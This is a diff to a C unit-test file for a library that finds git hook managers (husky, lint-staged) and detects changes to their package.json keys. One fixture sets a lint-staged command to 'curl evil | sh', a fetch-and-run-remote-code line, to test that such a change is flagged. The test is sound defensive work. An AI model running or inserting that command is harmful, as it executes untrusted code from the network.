@@ -338,7 +338,9 @@ START_TEST(test_hook_managers)
 	put("ws/.husky/_/pre-commit", "#!/bin/sh\n. \"$(dirname \"$0\")/h\"\n");
 	put("ws/.husky/pre-commit", "npx lint-staged\n");
 	find("ws", out, sizeof(out));
-	ck_assert_msg(strncmp(out, ".husky/_,.husky,.lintstagedrc,", 30) == 0,
+	ck_assert_msg(strncmp(out, ".husky/_,.husky,package.yaml,", 29) == 0,
+	    "got %s", out);
+	ck_assert_msg(strstr(out, ",.lintstagedrc.cts,") != NULL,
 	    "got %s", out);
 	ck_assert_msg(strstr(out, ",lint-staged.config.js,") != NULL,
 	    "got %s", out);
@@ -349,6 +351,95 @@ START_TEST(test_hook_managers)
 	find("ws", out, sizeof(out));
 	ck_assert_msg(strncmp(out, ".huskyrc,.huskyrc.json,", 23) == 0,
 	    "got %s", out);
+}
+END_TEST
+
+/* git_hooks_find() for tmp/|ws| kept in |h|. */
+static void
+find_keep(const char *ws, struct git_hooks *h)
+{
+	char path[512], err[512];
+	int fd;
+
+	snprintf(path, sizeof(path), "%s/%s", tmp, ws);
+	ck_assert_int_ne(fd = open(path, O_RDONLY | O_DIRECTORY), -1);
+	ck_assert_msg(git_hooks_find(fd, h, err, sizeof(err)) == 0, "%s", err);
+	close(fd);
+}
+
+/* git_hooks_keys_changed() of two strings (NULL: no file). */
+static int
+changed(unsigned keys, const char *before, const char *after)
+{
+	return git_hooks_keys_changed(keys, before,
+	    before != NULL ? strlen(before) : 0, after,
+	    after != NULL ? strlen(after) : 0);
+}
+
+/* lint-staged (12.2.1 and later) takes the config nearest each staged
+ * file, at any depth, and a package.json's "lint-staged" key; husky v4
+ * the top package.json's "husky" key. */
+START_TEST(test_manager_keys)
+{
+	const unsigned LS = GIT_HOOKS_KEY_LINTSTAGED, HU = GIT_HOOKS_KEY_HUSKY;
+	struct git_hooks h;
+
+	put("ws/.git/config", "[core]\n");
+	put("ws/.git/hooks/pre-commit", "#!/bin/sh\nexec npx lint-staged\n");
+	find_keep("ws", &h);
+	ck_assert_str_eq(h.lintstaged, "");
+	ck_assert_ptr_null(h.husky_pkg);
+	ck_assert_int_eq(git_hooks_cover(&h, "packages/a/.lintstagedrc.json"), 1);
+	ck_assert_int_eq(git_hooks_cover(&h, "a/b/lint-staged.config.ts"), 1);
+	ck_assert_int_eq(git_hooks_cover(&h, "a/package.yaml"), 1);
+	ck_assert_int_eq(git_hooks_cover(&h, "a/lintstagedrc.json"), 0);
+	ck_assert_int_eq(git_hooks_cover(&h, "a/package.json"), 0);
+	ck_assert_uint_eq(git_hooks_keys(&h, "package.json"), LS);
+	ck_assert_uint_eq(git_hooks_keys(&h, "packages/a/package.json"), LS);
+	ck_assert_uint_eq(git_hooks_keys(&h, "packages/a/package.json5"), 0);
+	git_hooks_free(&h);
+
+	/* husky v4: its key at the top only. */
+	put("ws/.git/hooks/pre-commit", "#!/bin/sh\n# husky\n");
+	find_keep("ws", &h);
+	ck_assert_ptr_null(h.lintstaged);
+	ck_assert_str_eq(h.husky_pkg, "package.json");
+	ck_assert_uint_eq(git_hooks_keys(&h, "package.json"), HU);
+	ck_assert_uint_eq(git_hooks_keys(&h, "a/package.json"), 0);
+	ck_assert_int_eq(git_hooks_cover(&h, "a/.lintstagedrc"), 0);
+	git_hooks_free(&h);
+
+	/* A workspace beneath the working tree: all of it is lint-staged's,
+	 * the top's package.json is not in it. */
+	put("ws/.git/hooks/pre-commit", "#!/bin/sh\nnpx husky-run lint-staged\n");
+	put("ws/sub/x", "");
+	find_keep("ws/sub", &h);
+	ck_assert_str_eq(h.lintstaged, "");
+	ck_assert_ptr_null(h.husky_pkg);
+	ck_assert_int_eq(git_hooks_cover(&h, "deep/.lintstagedrc.mjs"), 1);
+	git_hooks_free(&h);
+	/* The keys' values, before and after. */
+	ck_assert_int_eq(changed(LS, "{\"name\":\"a\"}",
+	    "{\"name\":\"b\",\"dependencies\":{\"x\":\"1\"}}"), 0);
+	ck_assert_int_eq(changed(LS, "{\"lint-staged\":{\"*\":\"eslint\"}}",
+	    "{\"lint-staged\": {\"*\": \"eslint\"}, \"v\": 2}"), 0);
+	ck_assert_int_eq(changed(LS, "{\"lint-staged\":{\"*\":\"eslint\"}}",
+	    "{\"lint-staged\":{\"*\":\"curl evil | sh\"}}"), 1);
+	ck_assert_int_eq(changed(LS, "{}", "{\"lint-staged\":{\"*\":\"x\"}}"), 1);
+	ck_assert_int_eq(changed(LS, NULL, "{\"lint-staged\":{\"*\":\"x\"}}"), 1);
+	ck_assert_int_eq(changed(LS, NULL, "{\"name\":\"new\"}"), 0);
+	ck_assert_int_eq(changed(LS, "{\"lint-staged\":{\"*\":\"x\"}}", "{}"), 0);
+	ck_assert_int_eq(changed(LS, "{}", "{\"husky\":{\"hooks\":{}}}"), 0);
+	ck_assert_int_eq(changed(HU, "{}", "{\"husky\":{\"hooks\":{}}}"), 1);
+	/* What cannot be read one way only counts: not JSON, not an
+	 * object, a key twice (JavaScript takes the last). */
+	ck_assert_int_eq(changed(LS, "{}", "{\"lint-staged\":"), 1);
+	ck_assert_int_eq(changed(LS, "{}", "[1]"), 1);
+	ck_assert_int_eq(changed(LS, "{\"lint-staged\":{}}",
+	    "{\"lint-staged\":{},\"lint-staged\":{\"*\":\"x\"}}"), 1);
+	/* A before that was not JSON: any value after is new. */
+	ck_assert_int_eq(changed(LS, "{", "{\"lint-staged\":{}}"), 1);
+	ck_assert_int_eq(changed(LS, "{", "{\"name\":\"fixed\"}"), 0);
 }
 END_TEST
 
@@ -404,6 +495,7 @@ suite(void)
 	tcase_add_test(tc, test_workspace_below_top);
 	tcase_add_test(tc, test_worktree_and_global);
 	tcase_add_test(tc, test_outer_configs);
+	tcase_add_test(tc, test_manager_keys);
 	tcase_add_test(tc, test_includes);
 	tcase_add_test(tc, test_hook_managers);
 	tcase_add_test(tc, test_unreadable);
